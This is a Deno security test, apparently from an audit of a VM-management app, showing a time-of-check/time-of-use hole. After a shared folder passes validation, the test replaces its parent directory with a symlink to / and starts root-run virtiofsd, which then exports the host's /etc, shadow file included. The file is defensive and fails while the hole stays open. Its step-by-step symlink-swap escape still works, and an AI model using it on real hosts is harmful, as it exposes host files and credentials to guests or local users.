// ATTACK (finding 1): a shared folder is checked once, when it is added; libvirtd hands the
// PATH (not an open directory) to virtiofsd, which runs as root at every start of the VM. Anyone
// who can write the share's parent folder later (a guest sharing that parent writably — its
// virtiofsd writes as root —, the libvirt-qemu user under /var/lib/libvirt/qemu, a local user
// with a folder in a storage root) swaps the folder for a symbolic link, and the next start
// exports whatever the link names, e.g. the host's / — writable, or read-only through the helper.
//
// Run: node_modules/.bin/deno test -A attack47/virtiofs_symlink_swap.attack.ts  (as root)
import { assert, assertEquals } from "../tests/support/assert.ts";
import { jsonOf, withTestApp } from "../routes/test_app.ts";
import { installReadOnlyHelper } from "../lib/filesystems/virtiofsd.ts";

const VIRTIOFSD = "/usr/lib/qemu/virtiofsd";

/** Starts `argv` the way libvirtd starts virtiofsd and lists the root the sandboxed server serves. */
async function servedRoot(argv: string[]): Promise<string[]> {
  const proc = new Deno.Command(argv[0], { args: argv.slice(1), stderr: "inherit", stdout: "null" })
    .spawn();
  const sock = argv.find((a) => a.startsWith("--socket-path="))!.slice("--socket-path=".length);
  let conn: Deno.Conn | null = null;
  try {
    for (let i = 0; i < 50; i++) {
      await new Promise((r) => setTimeout(r, 100));
      // It sets up its sandbox once QEMU (here: us) connects to its vhost-user socket.
      if (!conn) conn = await Deno.connect({ transport: "unix", path: sock }).catch(() => null);
      // virtiofsd's namespace sandbox forks: the child has pivot_root'ed into the source.
      const kids = (await Deno.readTextFile(`/proc/${proc.pid}/task/${proc.pid}/children`)
        .catch(() => "")).trim().split(/\s+/).filter(Boolean);
      for (const pid of [...kids, String(proc.pid)]) {
        try {
          const names = [];
          for await (const e of Deno.readDir(`/proc/${pid}/root`)) names.push(e.name);
          if (names.includes("passwd")) return names.sort();
        } catch { /* not yet */ }
      }
    }
    return [];
  } finally {
    conn?.close();
    try {
      proc.kill("SIGKILL");
    } catch { /* gone */ }
    await proc.status;
  }
}

Deno.test("attack: a share's folder swapped for a symlink after the check exports /etc", async () => {
  const base = await Deno.makeTempDir({ dir: "/srv", prefix: "kvmm-atk-swap-" });
  const helperDir = await Deno.makeTempDir({ prefix: "kvmm-atk-helper-" });
  try {
    // The admin shares two folders whose last name is an ordinary one ("etc" here; "home",
    // "data", "share", "images", "qemu", "libvirt", ".ssh" … work alike with another target).
    await Deno.mkdir(`${base}/outer/vm1/etc`, { recursive: true });
    await Deno.mkdir(`${base}/outer/vm2/etc`, { recursive: true });
    await withTestApp(async (t) => {
      const rw = await jsonOf(t, "POST", "/api/vms/db/filesystems", {
        source: `${base}/outer/vm1/etc`,
        tag: "rw",
      });
      assertEquals(rw.status, 201, JSON.stringify(rw.body));
      const ro = await jsonOf(t, "POST", "/api/vms/db/filesystems", {
        source: `${base}/outer/vm2/etc`,
        tag: "ro",
        readOnly: true,
      });
      assertEquals(ro.status, 201, JSON.stringify(ro.body));
      // Outside the roots: refused at the check, as it should be.
      const etc = await jsonOf(t, "POST", "/api/vms/db/filesystems", { source: "/etc", tag: "e" });
      assertEquals(etc.status, 400);

      // Later: whoever writes `outer` swaps the checked folders for links out of the roots.
      // virtiofsd lstat()s the last name (a link there is refused), but follows the others.
      await Deno.remove(`${base}/outer/vm1`, { recursive: true });
      await Deno.symlink("/", `${base}/outer/vm1`);
      await Deno.remove(`${base}/outer/vm2`, { recursive: true });
      await Deno.symlink("/", `${base}/outer/vm2`);

      const listed = (await jsonOf(t, "GET", "/api/vms/db/filesystems")).body as {
        tag: string;
        source: string;
      }[];
      const src = Object.fromEntries(listed.map((f) => [f.tag, f.source]));
      assertEquals(src.rw, `${base}/outer/vm1/etc`, "the definition names the path, not a handle");
      console.log("definition sources:", src);

      // libvirt 9 runs: BINARY --fd=N -o source=PATH (here a socket path in place of --fd).
      const sock = `${helperDir}/vfs.sock`;
      const served = await servedRoot([
        VIRTIOFSD,
        `--socket-path=${sock}`,
        "-o",
        `source=${src.rw}`,
      ]);
      console.log("writable share now serves:", served.slice(0, 8), "...");
      const writableEscaped = served.includes("shadow");

      // The read-only helper (run by libvirtd as root) follows the same link.
      const helper = await installReadOnlyHelper(helperDir, VIRTIOFSD);
      const servedRo = await servedRoot([
        helper,
        `--socket-path=${sock}2`,
        "-o",
        `source=${src.ro}`,
      ]);
      console.log("read-only share now serves:", servedRo.slice(0, 8), "...");
      // Asserts the safe outcome: fails while the hole is open.
      assert(!writableEscaped, "the writable share serves the host's /etc");
      assert(!servedRo.includes("shadow"), "the read-only helper serves the host's /etc");
    });
  } finally {
    await Deno.remove(base, { recursive: true });
    await Deno.remove(helperDir, { recursive: true });
  }
});
